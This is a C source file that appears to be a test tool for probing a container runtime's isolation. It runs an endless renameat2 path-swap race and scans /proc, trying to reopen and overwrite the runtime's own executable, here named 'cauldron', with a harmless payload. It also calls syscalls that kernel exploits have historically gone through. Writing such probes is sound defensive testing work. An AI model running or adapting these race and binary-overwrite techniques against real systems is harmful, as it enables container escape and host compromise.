/* What an attacker brings along in an image: system calls and races that a shell cannot make. Linked statically. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Exchanges two names for ever. */
static int swap(const char *one, const char *two) {
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, two, 2 /* RENAME_EXCHANGE */) != 0)
            return perror("renameat2"), 1;
}

/* Looks at every process that comes, as fast as it can: its program, and where its descriptors lead. With `write`, tries to
   overwrite the program. What was seen goes to the standard output. */
static _Noreturn void watch(int write_too) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");
    for (;;) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while ((entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            char path[64], target[4096];
            if (pid <= 0 || pid == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length > 0) {
                target[length] = 0;
                printf("exe %d %s\n", pid, target);
                if (write_too && strstr(target, "cauldron")) {
                    int file = open(path, O_RDONLY);
                    char again[64];
                    snprintf(again, sizeof again, "/proc/self/fd/%d", file);
                    for (int i = 0; file >= 0 && i < 2000; i++) {
                        int out = open(again, O_WRONLY);
                        if (out >= 0) {
                            puts(write(out, "#!/bin/false\n", 13) == 13 ? "overwritten" : "opened for writing");
                            close(out);
                            break;
                        }
                    }
                    close(file);
                }
            } else {
                printf("closed %d\n", pid);
            }
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            DIR *fds = opendir(path);
            while (fds && (entry = readdir(fds)) != NULL) {
                length = readlinkat(dirfd(fds), entry->d_name, target, sizeof target - 1);
                if (length > 0 && target[0] == '/') {
                    target[length] = 0;
                    printf("fd %d %s %s\n", pid, entry->d_name, target);
                }
            }
            if (fds)
                closedir(fds);
        }
        closedir(proc);
    }
}

/* One system call that a kernel's hole was reached by; prints what came of it. */
static int call(const char *name) {
    char zeros[256] = {0};
    long result;
    errno = 0;
    if (!strcmp(name, "keyctl"))
        result = syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, "x");
    else if (!strcmp(name, "add_key"))
        result = syscall(SYS_add_key, "user", "x", "x", 1, -2);
    else if (!strcmp(name, "io_uring_setup"))
        result = syscall(SYS_io_uring_setup, 1, zeros);
    else if (!strcmp(name, "bpf"))
        result = syscall(SYS_bpf, 0, zeros, sizeof zeros);
    else if (!strcmp(name, "perf_event_open"))
        result = syscall(SYS_perf_event_open, zeros, 0, -1, -1, 0);
    else if (!strcmp(name, "open_by_handle_at"))
        result = syscall(SYS_open_by_handle_at, open("/", O_RDONLY), zeros, O_RDONLY);
    else if (!strcmp(name, "unshare_user"))
        result = unshare(CLONE_NEWUSER);
    else if (!strcmp(name, "unshare_mount"))
        result = unshare(CLONE_NEWNS);
    else if (!strcmp(name, "clone3"))
        result = syscall(435, zeros, 0);
    else if (!strcmp(name, "fsopen"))
        result = syscall(430, "ext4", 0);
    else if (!strcmp(name, "userfaultfd"))
        result = syscall(SYS_userfaultfd, 0);
    else if (!strcmp(name, "vsock"))
        result = socket(40 /* AF_VSOCK */, SOCK_STREAM, 0);
    else if (!strcmp(name, "kexec_load"))
        result = syscall(SYS_kexec_load, 0, 0, NULL, 0);
    else if (!strcmp(name, "init_module"))
        result = syscall(SYS_init_module, zeros, sizeof zeros, "");
    else
        return 2;
    printf("%s: %s\n", name, result < 0 ? strerror(errno) : "done");
    return 0;
}

int main(int count, char **words) {
    if (count == 4 && !strcmp(words[1], "swap"))
        return swap(words[2], words[3]);
    if (count >= 2 && !strcmp(words[1], "watch"))
        watch(count > 2);
    if (count == 3 && !strcmp(words[1], "call"))
        return call(words[2]);
    return 2;
}
